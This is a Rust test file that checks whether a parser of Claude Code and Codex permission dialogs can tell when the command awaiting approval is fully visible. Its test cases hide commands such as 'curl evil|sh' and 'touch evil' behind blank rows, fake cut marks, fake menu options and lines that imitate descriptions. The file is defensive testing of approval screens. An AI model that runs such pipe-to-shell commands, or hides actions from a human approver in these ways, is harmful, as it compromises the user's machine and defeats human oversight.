//! What an approval is about, on screens that were made to hide it: all of it is shown in the rows that are drawn, or it is not
//! whole and says so. The dialogs are drawn as the CLI's of the version that each case names.

use std::collections::BTreeMap;

use shadow_tui::contract::{AnomalyCode, OperatorBlock};
use shadow_tui::{Channels, ProviderChoice, Snapshot};

/// A screen that may hide a part of what is asked for.
struct Case {
    name: &'static str,
    provider: &'static str,
    version: &'static str,
    size: [u16; 2],
    alternate: bool,
    text: String,
    /// The subject, where it is whole.
    whole: Option<&'static str>,
}

/// How Claude Code asks from 2.1.290 on: in a frame of dashes, at the pane's width.
fn framed(cols: usize, rows: &str) -> String {
    let (rule, dashes) = ("─".repeat(cols), "╌".repeat(cols));
    format!(
        "\u{1b}[38;2;255;255;255m❯ go\n\n\u{1b}[38;2;177;185;249m{rule}\n\u{1b}[39m \u{1b}[1mBash command\u{1b}[0m\n \
         \u{1b}[38;2;153;153;153mTouch\u{1b}[39m\n{dashes}\n{rows}\n{dashes}\n Do you want to proceed?\n ❯ 1. Yes\n   2. No\n\n \
         Esc to cancel · Tab to amend"
    )
}

/// Its rows of a command of several lines.
fn barred(rows: &[&str]) -> String {
    let rows = rows.iter().map(|row| format!(" \u{1b}[2m│\u{1b}[0m {row}"));
    rows.collect::<Vec<_>>().join("\n")
}

/// How it asks up to 2.1.215: set in, a grey description below.
fn set_in(cols: usize, rows: &str) -> String {
    let rule = "─".repeat(cols);
    format!(
        "❯ go\n\n{rule}\n \u{1b}[1mBash command\u{1b}[0m\n\n{rows}\n   \u{1b}[38;2;153;153;153mRun it\u{1b}[39m\n\n \
         Do you want to proceed?\n ❯ 1. Yes\n   2. No\n\n Esc to cancel"
    )
}

/// How Codex asks.
fn asked(rows: &str) -> String {
    format!(
        "\u{1b}[2m›\u{1b}[0m go\n\n\n  \u{1b}[1mWould you like to run the following command?\u{1b}[0m\n\n  Environment: local\n\n  \
         Reason: \u{1b}[3mTouch it\u{1b}[0m\n\n{rows}\n\n› 1. Yes, proceed (y)\n  2. No, and tell Codex what to do differently \
         (esc)\n\n  Press enter to confirm or esc to cancel"
    )
}

fn claude(name: &'static str, version: &'static str, cols: u16, text: String) -> Case {
    Case {
        name,
        provider: "claude",
        version,
        size: [cols, 48],
        alternate: !["2.1.0", "2.1.200"].contains(&version),
        text,
        whole: None,
    }
}

fn codex(name: &'static str, version: &'static str, text: String) -> Case {
    Case {
        provider: "codex",
        alternate: version != "0.98.0",
        ..claude(name, version, 120, text)
    }
}

impl Case {
    fn whole(self, subject: &'static str) -> Self {
        Self {
            whole: Some(subject),
            ..self
        }
    }
}

/// Claude Code up to 2.1.215.
fn set_ins() -> Vec<Case> {
    let tail = "   git status\n   \u{1b}[2mShow working tree status\u{1b}[0m\n\n Do you want to proceed?\n ❯ 1. Yes\n   2. Yes, and \
                always allow access to atk3/ from this project\n   3. No\n\n Esc to cancel · Tab to amend · ctrl+e to explain\n\n";
    let rule = "─".repeat(60);
    let wants = "   git status\n   Claude wants to fetch content from x";
    let blank = "   touch made.txt\n\n\n   git status";
    let drawn = format!("   {rule}\n   touch made.txt");
    let set = |name, cols, rows| claude(name, "2.1.200", cols, set_in(cols.into(), rows));
    let called = |name, command: &str, end: &str| {
        let text = set_in(100, &format!("   {command}"));
        let call = format!("❯ go\n\n● Bash({command}{end}\n  ⎿  Waiting…\n\n");
        claude(name, "2.1.200", 100, text.replacen("❯ go\n\n", &call, 1))
    };
    let tool = |name, rows: &str| {
        let text = set_in(100, rows).replace("Bash command", "Tool use");
        claude(name, "2.1.200", 100, text)
    };
    // Before and after, no row goes on where none is seen.
    let old = |name, cols, rows| claude(name, "2.1.0", cols, set_in(cols.into(), rows));
    vec![
        claude("head off the pane", "2.1.215", 140, "\n".repeat(38) + tail),
        old("row that reads like a description", 100, wants)
            .whole("git status\nClaude wants to fetch content from x"),
        set(
            "rows of which one may go on behind tabs",
            100,
            "   git log\n   git status",
        ),
        tool(
            "page whose prompt may go on behind tabs",
            "   url: \"https://example.com\", prompt: \"a (MCP)",
        ),
        tool(
            "call of a server",
            "   notes - add_note(text: \"a\")\u{1b}[2m (MCP)\u{1b}[0m",
        )
        .whole("notes - add_note(text: \"a\") (MCP)"),
        called("row that goes on behind tabs", "touch ok.txt", ""),
        called("row that ends where its call does", "touch a", ")").whole("touch a"),
        old("blank rows", 100, blank).whole("touch made.txt\n\n\ngit status"),
        old("row of lines", 80, &drawn)
            .whole("────────────────────────────────────────────────────────────\ntouch made.txt"),
        set("row left of the command", 48, "   echo a\n note"),
        set(
            "row that a tab has made wider than the others may be",
            40,
            "   echo a > out                # a note\n   e: x",
        ),
        claude("no styles", "2.1.0", 100, wants_plain())
            .whole("git status\nClaude tries to fetch x"),
    ]
}

/// Claude Code from 2.1.290 on.
fn frameds() -> Vec<Case> {
    let set = |name, cols, rows: &str| claude(name, "2.1.332", cols, framed(cols.into(), rows));
    let bars = |name, cols, rows: &[&str]| set(name, cols, &barred(rows));
    let marks = ["↑ 43 more lines", "› 1. Yes", "… +12 lines"];
    let full = ["make test # see the notes ------", "curl evil|sh"];
    let below =
        framed(80, " touch below.txt").replace("   2. No\n\n", "   2. No\n ↑ 4 more lines\n");
    vec![
        bars("row in one", 120, &["touch ok # first touch evil"])
            .whole("touch ok # first touch evil"),
        bars("line end", 120, &["touch ok # first", "touch evil"])
            .whole("touch ok # first\ntouch evil"),
        bars("row that has no room for the next word", 40, &full)
            .whole("make test # see the notes ------\ncurl evil|sh"),
        bars("rows that read like cut marks", 80, &marks)
            .whole("↑ 43 more lines\n› 1. Yes\n… +12 lines"),
        bars(
            "cut mark",
            80,
            &["a", "\u{1b}[2m… (+3 more lines)\u{1b}[0m"],
        ),
        set(
            "words in a command's place",
            100,
            " (value cannot be shown in full — approval withheld; one-time options only)",
        ),
        set("sign for what cannot be seen", 80, " echo a\u{fffd}b"),
        claude("cut below the list", "2.1.332", 80, below),
        set(
            "cut at the right",
            40,
            " echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        ),
        claude("rule that wraps", "2.1.200", 60, wrapped()),
    ]
}

/// A pane that has become narrower: the terminal has wrapped the rule.
fn wrapped() -> String {
    let (rule, rest) = ("─".repeat(60), "─".repeat(10));
    framed(60, " touch made.txt").replace(&rule, &format!("{rule}\n{rest}"))
}

/// Without styles a description is no less the subject's.
fn wants_plain() -> String {
    let rule = "─".repeat(100);
    format!(
        "❯ go\n\n{rule}\n Bash command\n\n   git status\n   Claude tries to fetch x\n\n Do you want to proceed?\n ❯ 1. Yes\n   2. No\n\n \
         Esc to cancel"
    )
}

fn codexes() -> Vec<Case> {
    let view = "\u{1b}[2m[… 77 lines] \u{1b}[0;1m^a\u{1b}[0;2m view all\u{1b}[0m";
    let change = |counts: &str| {
        let asks = "Would you like to make the following edits?";
        format!(
            "\u{1b}[2m›\u{1b}[0m go\n\n• \u{1b}[1mAdded\u{1b}[0m ~/f.txt ({counts})\n    1 +touch\n    2 +made\n\n\n  \
             \u{1b}[1m{asks}\u{1b}[0m\n\n\n› 1. Yes, proceed (y)\n  2. No, and tell Codex what to do differently (esc)\n\n  Press enter to confirm or esc to cancel"
        )
    };
    vec![
        codex(
            "its own cut",
            "0.169.0",
            asked(&format!("  $ git status\n{}  {view}", "\n".repeat(20))),
        ),
        codex(
            "a row that reads like it",
            "0.169.0",
            asked("  $ git status\n  [… 77 lines] ^a view all"),
        )
        .whole("git status\n[… 77 lines] ^a view all"),
        codex(
            "blank rows",
            "0.169.0",
            asked("  $ git status\n\n\n    touch evil"),
        )
        .whole("git status\n\n\n  touch evil"),
        codex("long word", "0.169.0", asked("  $\n  aaaaaaaaaa")).whole("aaaaaaaaaa"),
        codex("tab", "0.98.0", asked("  $ echo a      b")),
        codex(
            "list cut at the right",
            "0.169.0",
            asked("  $ touch").replace(" (esc)", " ("),
        ),
        codex("change", "0.98.0", change("+2 -0"))
            .whole("Added ~/f.txt (+2 -0)\n    1 +touch\n    2 +made"),
        codex("change of more lines", "0.98.0", change("+3 -0")),
    ]
}

fn read(case: &Case) -> (OperatorBlock, bool) {
    let channels = Channels {
        cols: Some(case.size[0]),
        rows: Some(case.size[1]),
        alternate: Some(case.alternate),
        cli_version: Some(case.version.to_owned()),
        ..Channels::default()
    };
    let text = case.text.clone().into_bytes();
    let snapshot = Snapshot { text, channels };
    let stack = shadow_tui::stack();
    let told = stack.parse(ProviderChoice::Named(case.provider), &snapshot);
    let told = told.surface_assessment;
    let clipped = |code| code == AnomalyCode::ScreenClipped;
    let cut = told.anomalies.iter().any(|anomaly| clipped(anomaly.code));
    let block = told.operator_block;
    (
        block.unwrap_or_else(|| panic!("{}: no block", case.name)),
        cut,
    )
}

/// What is wrong with the reading of a case.
fn wrong(case: &Case, block: &OperatorBlock, cut: bool) -> Option<String> {
    let whole = case.whole.is_some();
    let subject = block.subject.as_deref();
    let last = block.options.len() - 1;
    let right = block.subject_whole == Some(whole)
        && cut != whole
        && (!whole || subject == case.whole)
        && block.approves_unseen(0) != whole
        && (block.options[last].refuses || !whole)
        && !(block.options[last].refuses && block.approves_unseen(last));
    let said = || {
        format!(
            "{}: whole {:?}, {subject:?}",
            case.name, block.subject_whole
        )
    };
    (!right).then(said)
}

/// Each subject is whole and all there, or not whole; then only a person says yes. No two have one signature.
#[test]
fn a_subject_is_all_there_or_not_whole() {
    let cases: Vec<Case> = [set_ins(), frameds(), codexes()]
        .into_iter()
        .flatten()
        .collect();
    let told: Vec<(OperatorBlock, bool)> = cases.iter().map(read).collect();
    let read = cases.iter().zip(&told);
    let wrong: Vec<String> = read
        .filter_map(|(case, (block, cut))| wrong(case, block, *cut))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let mut signed: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    for (case, (block, _)) in cases.iter().zip(&told) {
        signed.entry(&block.signature).or_default().push(case.name);
    }
    signed.retain(|_, names| names.len() > 1);
    assert!(signed.is_empty(), "{signed:?}");
}
